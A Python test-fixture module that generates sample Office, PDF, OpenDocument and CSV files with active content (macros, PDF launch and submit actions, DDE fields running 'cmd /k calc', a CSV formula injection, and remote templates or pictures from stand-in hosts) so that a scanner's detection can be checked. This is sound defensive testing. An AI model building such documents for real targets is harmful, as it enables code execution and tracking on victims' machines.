"""Files that do something by themselves, or fetch something, when they are opened."""

from collections.abc import Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.evidence.shelf import office, paper
from tests.evidence.shelf.case import Case, bad


def cases() -> Iterator[Case]:
    yield from _macros()
    yield from _pdfs()
    yield from _office()
    yield from _open_documents()


def _macros() -> Iterator[Case]:
    for number, (code, found) in enumerate(((office.HARMLESS, "macro"), (office.STARTS, "macro_runs_itself"))):
        project = office.vba_project(code)
        for seed in range(3):
            name = f"{number}-{seed}"
            yield bad(
                "worksheet with macros",
                f"rekap-{name}.xlsm",
                lambda seed=seed, project=project: office.with_parts(
                    office.worksheet(seed), {"xl/vbaProject.bin": project}
                ),
                found,
                kind="data",
            )
            yield bad(
                "document with macros",
                f"surat-{name}.docm",
                lambda seed=seed, project=project: office.document(seed, parts={"word/vbaProject.bin": project}),
                found,
            )
            yield bad(
                "macros under a plain name",
                f"rekap-{name}.xlsx",
                lambda seed=seed, project=project: office.with_parts(
                    office.worksheet(seed), {"xl/vbaProject.bin": project}
                ),
                found,
                kind="data",
            )
            yield bad(
                "slides with macros",
                f"paparan-{name}.pptm",
                lambda seed=seed, project=project: office.slides(seed, parts={"ppt/vbaProject.bin": project}),
                found,
            )
        yield bad(
            "old workbook with macros",
            f"lama-{number}.xls",
            lambda code=code: office.old_book(more=office.vba_streams(code, "_VBA_PROJECT_CUR/VBA")),
            found,
            kind="data",
        )
        yield bad(
            "old document with macros",
            f"lama-{number}.doc",
            lambda code=code: office.ole({"WordDocument": b"", **office.vba_streams(code, "Macros/VBA")}),
            found,
        )
    yield bad(
        "old workbook with a sheet of macros",
        "lembar.xls",
        lambda: office.old_book(macro_sheet=True),
        "macro",
        kind="data",
    )
    for seed in range(3):
        yield bad(
            "LibreOffice worksheet with macros",
            f"makro-{seed}.ods",
            lambda seed=seed: office.open_document("spreadsheet", seed, parts={"Basic/Standard/Module1.xml": "<m/>"}),
            "macro",
            kind="data",
        )


def _pdfs() -> Iterator[Case]:
    # As plain values: an object of one PDF may not be put into another.
    script = {"S": Name.JavaScript, "JS": "app.alert('halo')"}
    launch = {"S": Name.Launch, "Win": {"/F": "C:\\Windows\\System32\\cmd.exe"}}
    opened = {"S": Name.Launch, "F": "lampiran.doc"}
    sent = {"S": Name.SubmitForm, "F": "https://example.com/kirim"}
    imported = {"S": Name.ImportData, "F": "data.fdf"}
    for seed in range(3):
        for label, action, code in (
            ("script", script, "pdf_script"),
            ("start of a program", launch, "pdf_launch"),
            ("start of a file", opened, "pdf_launch"),
            ("sending", sent, "pdf_sends"),
            ("importing", imported, "pdf_sends"),
        ):
            for place, put in _PLACES.items():
                yield bad(
                    f"{label} {place}",
                    f"{code}-{seed}.pdf",
                    lambda seed=seed, put=put, action=action: paper.changed(
                        paper.decree(seed), lambda pdf: put(pdf, Dictionary(**action))
                    ),
                    code,
                    kind="laporan",
                )
        yield bad(
            "script by name",
            f"nama-{seed}.pdf",
            lambda seed=seed: paper.changed(paper.decree(seed), _named_script),
            "pdf_script",
            kind="laporan",
        )
        for name, code in (
            ("rekap.xlsx", "pdf_attachment"),
            ("buka.exe", "program_inside"),
            ("faktur.xml", "pdf_attachment"),
        ):
            yield bad(
                "file attached",
                f"lampiran-{seed}.pdf",
                lambda seed=seed, name=name: paper.changed(paper.decree(seed), lambda pdf: _attach(pdf, name)),
                code,
                kind="laporan",
            )
        for kind in (Name.RichMedia, Name.Movie, Name.Sound, Name("/3D")):
            yield bad(
                "film, sound or model",
                f"media-{seed}.pdf",
                lambda seed=seed, kind=kind: paper.changed(
                    paper.decree(seed), lambda pdf: _annotate(pdf, Subtype=kind)
                ),
                "pdf_media",
                kind="laporan",
            )
        yield bad(
            "form only for Adobe Reader",
            f"xfa-{seed}.pdf",
            lambda seed=seed: paper.changed(paper.decree(seed), _only_in_reader),
            "dynamic_form",
            kind="laporan",
        )


def _annotate(pdf: pikepdf.Pdf, **values) -> None:
    note = Dictionary(Type=Name.Annot, Rect=Array([60, 60, 200, 80]), **values)
    pdf.pages[0].obj["/Annots"] = Array([pdf.make_indirect(note)])


def _on_opening(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    pdf.Root["/OpenAction"] = action


def _on_a_page(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    pdf.pages[0].obj["/AA"] = Dictionary(O=pdf.make_indirect(action))


def _on_a_click(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    _annotate(pdf, Subtype=Name.Link, A=action)


def _after_another(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    _on_opening(pdf, Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([pdf.make_indirect(action)])))


def _in_a_field(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    field = Dictionary(FT=Name.Tx, T="isian", AA=Dictionary(K=action))
    pdf.Root["/AcroForm"] = Dictionary(Fields=Array([pdf.make_indirect(field)]))


_PLACES = {
    "on opening": _on_opening,
    "on a page": _on_a_page,
    "on a click": _on_a_click,
    "after another": _after_another,
    "in a field": _in_a_field,
}


def _named_script(pdf: pikepdf.Pdf) -> None:
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS="1"))
    pdf.Root["/Names"] = Dictionary(JavaScript=Dictionary(Names=Array([String("mulai"), script])))


def _attach(pdf: pikepdf.Pdf, name: str) -> None:
    pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, b"isi lampiran", filename=name)


def _only_in_reader(pdf: pikepdf.Pdf) -> None:
    pdf.Root["/AcroForm"] = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))
    pdf.Root["/NeedsRendering"] = True


def _office() -> Iterator[Case]:
    def linked(kind: str, target: str) -> str:
        return office.relations(("styles", "styles.xml", False), (kind, target, True))

    def part(name: str, content: str | bytes, seed: int) -> bytes:
        return office.document(seed, parts={name: content})

    far = (
        "http://example.com/a.dotm",
        "https://203.0.113.7/x",
        "\\\\203.0.113.7\\bagi\\a.xlsx",
        "file:////203.0.113.7/bagi/a.xlsx",
    )
    for seed, target in enumerate(far):
        yield bad(
            "template from elsewhere",
            f"templat-{seed}.docx",
            lambda t=target, s=seed: part("word/_rels/settings.xml.rels", linked("attachedTemplate", t), s),
            "outside_template",
        )
        yield bad(
            "object from elsewhere",
            f"objek-{seed}.docx",
            lambda t=target, s=seed: part("word/_rels/document.xml.rels", linked("oleObject", t), s),
            "outside_object",
        )
        yield bad(
            "frame from elsewhere",
            f"bingkai-{seed}.docx",
            lambda t=target, s=seed: part("word/_rels/webSettings.xml.rels", linked("frame", t), s),
            "outside_object",
        )
        yield bad(
            "picture from elsewhere",
            f"gambar-{seed}.docx",
            lambda t=target, s=seed: part("word/_rels/document.xml.rels", linked("image", t), s),
            "outside_picture",
        )
    for seed in range(4):
        runs = "".join(
            f"<w:r><w:instrText>{run}</w:instrText></w:r>"
            for run in ("DDE", "AUTO c:\\\\windows\\\\cmd.exe ", "/k calc")
        )
        yield bad(
            "field that starts a program",
            f"dde-{seed}.docx",
            lambda runs=runs, seed=seed: office.document(seed, body=f"<w:p>{runs}</w:p>"),
            "dde",
        )
        simple = '<w:p><w:fldSimple w:instr="DDE excel rekap.xlsx"/></w:p>'
        yield bad(
            "simple field that starts a program",
            f"dde-s-{seed}.docx",
            lambda simple=simple, seed=seed: office.document(seed, body=simple),
            "dde",
        )
        book = '<externalLink xmlns="x"><externalBook/></externalLink>'
        yield bad(
            "worksheet with figures from another",
            f"tautan-{seed}.xlsx",
            lambda book=book, seed=seed: office.with_parts(
                office.worksheet(seed), {"xl/externalLinks/externalLink1.xml": book}
            ),
            "linked_workbook",
            kind="data",
        )
        link = '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
        yield bad(
            "worksheet that starts a program",
            f"dde-{seed}.xlsx",
            lambda link=link, seed=seed: office.with_parts(
                office.worksheet(seed), {"xl/externalLinks/externalLink1.xml": link}
            ),
            "dde",
            kind="data",
        )
        rows = f"No;Nilai\r\n1;5\r\n2;=cmd|' /C calc{seed}'!A0\r\n".encode()
        yield bad("table that starts a program", f"dde-{seed}.csv", lambda rows=rows: rows, "dde", kind="data")
        yield bad(
            "buttons of ActiveX",
            f"tombol-{seed}.docx",
            lambda seed=seed: office.document(seed, parts={"word/activeX/activeX1.xml": "<x/>"}),
            "active_control",
        )
        native = b"\x40\x00\x00\x00\x02\x00buka.exe\0C:\\Users\\Staf\\buka.exe\0\0\0\x03\0"
        yield bad(
            "program inside a document",
            f"paket-{seed}.docx",
            lambda seed=seed, native=native: office.document(
                seed, parts={"word/embeddings/oleObject1.bin": office.ole({"\x01Ole10Native": native})}
            ),
            "program_inside",
        )


def _open_documents() -> Iterator[Case]:
    for seed in range(4):
        picture = '<draw:image xlink:href="https://example.com/lacak.png"/>'
        yield bad(
            "OpenDocument with a picture from elsewhere",
            f"gambar-{seed}.odt",
            lambda picture=picture, seed=seed: office.open_document("text", seed, body=picture),
            "outside_picture",
        )
        thing = '<draw:object xlink:href="//203.0.113.7/bagi/a.ods"/>'
        yield bad(
            "OpenDocument with an object from elsewhere",
            f"objek-{seed}.odt",
            lambda thing=thing, seed=seed: office.open_document("text", seed, body=thing),
            "outside_object",
        )
        source = '<office:dde-source office:dde-application="cmd"/>'
        yield bad(
            "OpenDocument with DDE",
            f"dde-{seed}.ods",
            lambda source=source, seed=seed: office.open_document("spreadsheet", seed, body=source),
            "dde",
            kind="data",
        )
